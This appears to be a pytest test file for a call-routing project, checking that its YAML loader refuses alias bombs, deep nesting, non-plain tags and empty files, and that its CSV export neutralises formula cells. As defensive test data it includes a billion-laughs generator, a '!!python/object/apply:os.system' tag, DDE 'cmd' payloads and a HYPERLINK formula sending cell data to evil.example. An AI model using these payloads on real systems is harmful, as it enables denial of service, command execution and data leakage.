"""Hostile and careless files (issue 9, holes 3, 6 and 7): every YAML the project reads goes
through one safe loader; an alias bomb, a deep nest, a tag that is not plain data and an empty
file are refused quickly with the file, line and reason, and change nothing; CSV export
neutralises formula cells and still round-trips exactly."""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from accueil.core.rules import load_text
from accueil.core.safe_yaml import Limits, load_yaml
from accueil.core.scripts.document import parse_layer
from accueil.directory_io.formulas import neutralise, restore
from accueil.errors import ValidationFailed
from accueil.services.decisions import decide_call
from accueil.services.exporting import export_csv
from accueil.services.onboarding import import_files, load_directory
from accueil.sim.workload import parse_workload
from accueil.store.db import make_engine, migrate, session_factory, transaction
from accueil.store.tables import AccountRow, PersonRow
from accueil.store.tables_availability import RuleVersionRow
from cli_support import cli_database, run_cli

NOW = datetime(2026, 12, 1, 13, 0, tzinfo=UTC)

DIRECTORY = {
    "accounts": [{"key": "martin", "name": "Cabinet Martin", "country": "FR"}],
    "people": [
        {
            "account": "martin",
            "key": "claire",
            "first_name": "Claire",
            "last_name": "Martin",
            "devices": [{"key": "mobile", "kind": "mobile", "address": "06 12 34 56 78"}],
        }
    ],
    "numbers": [{"number": "01 40 00 00 01", "account": "martin", "person": "claire"}],
}


def billion_laughs(head: str, levels: int = 9, tail: str = "") -> str:
    """The classic alias bomb: nine aliases of nine aliases… (9**levels values)."""
    lines = [head.rstrip("\n"), 'l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(1, levels):
        lines.append(f"l{n}: &l{n} [{','.join([f'*l{n - 1}'] * 9)}]")
    return "\n".join(lines) + "\n" + tail


# The shape: a rules file under 1 KB that expands to hundreds of millions of values.
RULES_BOMB = billion_laughs("account: martin\nperson: claire\n", tail="rules: *l8\n")
BOMB_MESSAGE = "the aliases of this file expand to too many values (an alias bomb?)"


def bounded(action: Callable[[], Any]) -> tuple[float, float]:
    """CPU seconds of ``action`` (this thread's: other work on a shared machine does not count),
    then the peak MiB of Python allocations of a second run (apart: tracing allocations slows
    everything down)."""
    started = time.thread_time()
    action()
    took = time.thread_time() - started
    tracemalloc.start()
    try:
        action()
        peak = tracemalloc.get_traced_memory()[1] / 2**20
    finally:
        tracemalloc.stop()
    return took, peak


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    yield from cli_database(tmp_path, monkeypatch, DIRECTORY)


def _rule_versions(url: str) -> int:
    engine = make_engine(url)
    try:
        with Session(engine) as s:
            return s.scalar(select(func.count()).select_from(RuleVersionRow)) or 0
    finally:
        engine.dispose()


# --- hole 3: alias bombs, everywhere YAML is read ---------------------------------------------


def test_the_rules_alias_bomb_is_refused_by_rules_check_quickly(
    database: str, tmp_path: Path
) -> None:
    assert len(RULES_BOMB.encode()) < 1000
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(RULES_BOMB, encoding="utf-8")
    run_cli("rules", "--help")  # the command's modules loaded: the check alone is timed
    outputs: list[str] = []
    took, peak = bounded(lambda: outputs.append(run_cli("rules", "check", str(bomb), code=2)))
    assert f"{bomb}:" in outputs[0] and BOMB_MESSAGE in outputs[0]
    assert took < 2 and peak < 100, (took, peak)
    offline = run_cli("rules", "check", "--offline", str(bomb), code=2)
    assert BOMB_MESSAGE in offline


def test_the_rules_alias_bomb_cannot_be_saved_so_decisions_never_pay_for_it(
    database: str, tmp_path: Path
) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(RULES_BOMB, encoding="utf-8")
    assert BOMB_MESSAGE in run_cli("rules", "set", str(bomb), code=2)
    assert _rule_versions(database) == 0
    run_cli("decide", "--help")
    started = time.thread_time()  # CPU, not wall: the bomb cost 12.7 s of it per decision
    run_cli("decide", "--to", "01 40 00 00 01", "--from", "06 99 99 99 99")
    assert time.thread_time() - started < 2


def test_rules_saved_before_the_loader_refused_bombs_do_not_slow_a_decision(
    database: str,
) -> None:
    run_cli("decide", "--help")
    # what a bomb saved by an older version left in the database: half a million values
    engine = make_engine(database)
    with transaction(session_factory(engine)) as s:
        account = s.scalar(select(AccountRow.id).where(AccountRow.key == "martin"))
        assert account is not None
        expanded = [{"name": "x", "when": {"caller_in_list": ["lol"] * 9**6}}]
        s.add(
            RuleVersionRow(
                account_id=account,
                scope="person",
                owner_key="claire",
                version=1,
                rules=expanded,
                saved_at=datetime(2026, 1, 1, tzinfo=UTC),
            )
        )
    engine.dispose()
    started = time.thread_time()  # CPU, not wall: a shared machine's load does not count
    output = run_cli("decide", "--to", "01 40 00 00 01", "--from", "06 99 99 99 99")
    took = time.thread_time() - started
    assert "too large to be rules" in output
    assert took < 2, took


@pytest.mark.parametrize(
    "reader",
    [
        pytest.param(lambda text: load_text(text, "f.yaml"), id="rules"),
        pytest.param(lambda text: parse_layer(text, "f.yaml"), id="scripts"),
        pytest.param(lambda text: parse_workload(text, "f.yaml"), id="workloads"),
        pytest.param(lambda text: load_yaml(text, "f.yaml", typed=False), id="directory-style"),
    ],
)
def test_every_yaml_reader_refuses_an_alias_bomb_quickly(reader: Callable[[str], Any]) -> None:
    bomb = billion_laughs("x: 1", tail="y: *l8\n")
    caught: list[ValidationFailed] = []

    def read() -> None:
        with pytest.raises(ValidationFailed) as exc:
            reader(bomb)
        caught.append(exc.value)

    took, peak = bounded(read)
    assert BOMB_MESSAGE in str(caught[0])
    assert caught[0].problems[0].file == "f.yaml" and caught[0].problems[0].line
    assert took < 2 and peak < 100, (took, peak)


def test_a_directory_alias_bomb_is_refused_and_changes_nothing(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    bomb = tmp_path / "people.yaml"
    bomb.write_text(billion_laughs("accounts: []", tail="people: *l8\n"), encoding="utf-8")
    with pytest.raises(ValidationFailed) as caught, transaction(sessions) as s:
        import_files(s, [bomb], now=NOW)
    assert BOMB_MESSAGE in str(caught.value)
    with Session(sessions.kw["bind"]) as s:
        assert s.scalar(select(func.count()).select_from(AccountRow)) == 0


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("a: " + "[" * 200 + "]" * 200 + "\n", id="flow"),
        pytest.param(
            "".join(f"{'  ' * n}k{n}:\n" for n in range(200)) + "  " * 200 + "x\n", id="block"
        ),
        pytest.param("a: " + "[" * 5000 + "]" * 5000 + "\n", id="beyond-libyaml"),
    ],
)
def test_a_deep_nest_is_refused_with_the_file(text: str) -> None:
    with pytest.raises(ValidationFailed, match="nested too deeply") as caught:
        load_text(text, "deep.yaml")
    assert caught.value.problems[0].file == "deep.yaml"


def test_an_alias_to_a_collection_inside_itself_is_refused() -> None:
    with pytest.raises(ValidationFailed, match="alias to itself"):
        load_text("a: &a [1, *a]\n", "loop.yaml")
    with pytest.raises(ValidationFailed, match="alias to itself"):
        load_text("a: &a {x: 1, <<: *a}\n", "loop.yaml")


def test_a_file_over_the_size_cap_is_refused_before_it_is_parsed() -> None:
    text = "a: " + "x" * 200 + "\n"
    with pytest.raises(ValidationFailed, match=r"too large \(204 characters; at most 100\)"):
        load_yaml(text, "big.yaml", limits=Limits(max_chars=100))


def test_merge_keys_and_ordinary_aliases_still_read() -> None:
    text = "base: &b {x: 1, y: 2}\nc:\n  <<: *b\n  y: 3\nd: [*b, *b]\n"
    document = load_yaml(text, "ok.yaml")
    assert document.data == {
        "base": {"x": 1, "y": 2},
        "c": {"x": 1, "y": 3},
        "d": [{"x": 1, "y": 2}, {"x": 1, "y": 2}],
    }
    assert document.lines[("c", "y")] == 4


# --- hole 6: silent acceptance ---------------------------------------------------------------


@pytest.mark.parametrize("content", ["", "\n\n", "# only a comment\n", "---\n"])
def test_an_empty_directory_file_is_refused_by_import(
    sessions: sessionmaker[Session], tmp_path: Path, content: str
) -> None:
    empty = tmp_path / "clients.yaml"
    empty.write_text(content, encoding="utf-8")
    with pytest.raises(ValidationFailed) as caught, transaction(sessions) as s:
        import_files(s, [empty], now=NOW)
    assert [str(p) for p in caught.value.problems] == [
        f"{empty}:1: the file is empty: expected the sections accounts, groups, people, "
        "numbers and agents"
    ]


def test_an_empty_file_is_refused_at_the_command_line(database: str, tmp_path: Path) -> None:
    empty = tmp_path / "empty.yaml"
    empty.write_text("# nothing yet\n", encoding="utf-8")
    assert f"{empty}:1: the file is empty" in run_cli("import", str(empty), code=2)
    assert f"{empty}:1: the file is empty" in run_cli("rules", "check", str(empty), code=2)
    assert "the file is empty" in run_cli("script", "check", str(empty), code=2)
    assert "the file is empty" in run_cli("simulate", "--workload", str(empty), code=2)


@pytest.mark.parametrize(
    "reader",
    [
        pytest.param(lambda text: load_text(text, "f.yaml"), id="rules"),
        pytest.param(lambda text: parse_layer(text, "f.yaml"), id="scripts"),
        pytest.param(lambda text: parse_workload(text, "f.yaml"), id="workloads"),
    ],
)
def test_every_reader_refuses_an_empty_document(reader: Callable[[str], Any]) -> None:
    with pytest.raises(ValidationFailed, match=r"f\.yaml:1: the file is empty"):
        reader("# written later\n")


def test_a_python_tag_on_a_name_is_refused_with_file_and_line_and_nothing_is_stored(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    hostile = tmp_path / "clients.yaml"
    hostile.write_text(
        "accounts:\n  - {key: acme, name: Acme}\npeople:\n  - account: acme\n    key: x\n"
        "    first_name: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
        encoding="utf-8",
    )
    with pytest.raises(ValidationFailed) as caught, transaction(sessions) as s:
        import_files(s, [hostile], now=NOW)
    assert [str(p) for p in caught.value.problems] == [
        f"{hostile}:6: the tag !!python/object/apply:os.system is not plain data; accueil "
        "reads only text, numbers, true/false, null, lists and mappings: remove it"
    ]
    with Session(sessions.kw["bind"]) as s:
        assert s.scalar(select(func.count()).select_from(PersonRow)) == 0
        assert s.scalar(select(func.count()).select_from(AccountRow)) == 0


@pytest.mark.parametrize(
    ("text", "tag", "line"),
    [
        ("a: !custom x\n", "!custom", 1),
        ("a: 1\nb: !!binary aGVsbG8=\n", "!!binary", 2),
        ("a: !!timestamp 2026-01-01\n", "!!timestamp", 1),
        ("a: !!set {x, y}\n", "!!set", 1),
        ("a: !!omap [{x: 1}]\n", "!!omap", 1),
        ("a:\n  - !!python/name:os.system\n", "!!python/name:os.system", 2),
        ("a: !<tag:example.com,2026:thing> {x: 1}\n", "tag:example.com,2026:thing", 1),
        ("!custom {a: 1}\n", "!custom", 1),
    ],
)
@pytest.mark.parametrize("typed", [True, False])
def test_any_tag_beyond_plain_data_is_refused(text: str, tag: str, line: int, typed: bool) -> None:
    with pytest.raises(ValidationFailed) as caught:
        load_yaml(text, "t.yaml", typed=typed)
    problem = caught.value.problems[0]
    assert (problem.file, problem.line) == ("t.yaml", line)
    assert problem.reason.startswith(f"the tag {tag} is not plain data")


def test_plain_core_tags_written_out_are_read() -> None:
    text = "a: !!str 0140\nb: !!int '12'\nc: !!bool 'yes'\nd: !!null ''\ne: !!float '1.5'\n"
    assert load_yaml(text, "t.yaml").data == {"a": "0140", "b": 12, "c": True, "d": None, "e": 1.5}


def test_a_tag_in_a_rules_file_or_a_script_is_refused_at_the_command_line(
    database: str, tmp_path: Path
) -> None:
    rules = tmp_path / "claire.yaml"
    rules.write_text("account: martin\nperson: claire\nrules: !custom []\n", encoding="utf-8")
    out = run_cli("rules", "check", str(rules), code=2)
    assert f"{rules}:3: the tag !custom is not plain data" in out
    script = tmp_path / "script.yaml"
    script.write_text("greeting: !!python/object:builtins.str x\n", encoding="utf-8")
    out = run_cli("script", "check", str(script), code=2)
    assert f"{script}:1: the tag !!python/object:builtins.str is not plain data" in out


def test_a_key_written_twice_in_rules_is_refused() -> None:
    with pytest.raises(ValidationFailed, match=r"f\.yaml:3 field 'person': the key 'person'"):
        load_text("account: a\nperson: b\nperson: c\nrules: []\n", "f.yaml")


# --- hole 7: CSV formulas ----------------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "''",
    "'t Hooft",
    "'",
]


@pytest.mark.parametrize("value", [*HOSTILE_CELLS, "\tx", "\rx", "plain", "", "+33 1 40 00 00 00"])
def test_restore_undoes_exactly_what_neutralise_did(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def _hostile_directory() -> dict[str, Any]:
    names = HOSTILE_CELLS
    return {
        "accounts": [{"key": "acme", "name": '=HYPERLINK("http://evil.example")', "notes": "-1+1"}],
        "people": [
            {"account": "acme", "key": f"p{i}", "first_name": name, "last_name": "@x"}
            for i, name in enumerate(names)
        ],
        "numbers": [
            {"number": "+33 1 40 00 00 00", "account": "acme", "label": "+standard"},
            {"number": "01 40 00 00 01", "account": "acme", "person": "p0"},
        ],
    }


def test_csv_export_neutralises_formulas_and_round_trips_exactly(
    db_url: str, tmp_path: Path
) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    engine = make_engine(db_url)
    migrate(engine)
    with transaction(session_factory(engine)) as s:
        load_directory(s, _hostile_directory(), now=NOW)
    with Session(engine) as s:
        files = export_csv(s, first)
    cells = [
        cell
        for path in files
        for line in path.read_text(encoding="utf-8").splitlines()[1:]
        for cell in line.split(",")
    ]
    assert cells and not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
    people = (first / "people.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in people and "'+cmd" in people and "'t Hooft" in people
    assert "'+33 1 40 00 00 00" in (first / "numbers.csv").read_text(encoding="utf-8")

    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    migrate(other)
    with transaction(session_factory(other)) as s:
        import_files(s, files, now=NOW)
    with Session(other) as s:
        names = {p.key: p.first_name for p in s.scalars(select(PersonRow))}
        again = export_csv(s, second)
    assert [names[f"p{i}"] for i in range(len(HOSTILE_CELLS))] == HOSTILE_CELLS
    for a, b in zip(files, again, strict=True):
        assert a.read_bytes() == b.read_bytes(), a.name
    with Session(other) as s:
        decision = decide_call(s, "+33699999999", "+33140000000", now=NOW)
        assert decision.destination.account.key == "acme"
    engine.dispose()
    other.dispose()
